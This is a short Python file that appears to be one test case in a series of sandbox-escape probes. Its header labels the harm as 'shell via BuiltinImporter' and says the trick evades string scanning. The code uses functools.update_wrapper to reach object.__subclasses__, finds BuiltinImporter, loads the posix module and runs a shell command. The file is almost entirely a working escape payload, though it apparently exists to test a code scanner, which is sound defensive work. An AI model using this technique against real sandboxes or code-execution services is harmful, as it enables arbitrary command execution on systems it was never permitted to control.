# HARM: shell via BuiltinImporter | TRICK: like d21 but the attribute name is a plain string literal '__subclasses__' (tests string scanning)
import functools
class Base: pass
class A(Base): pass
functools.update_wrapper(Base, object, assigned=('__subclasses__',), updated=())
for k in Base.__subclasses__():
    if k.__name__ == "BuiltinImporter":
        k.load_module("posix").system("id")
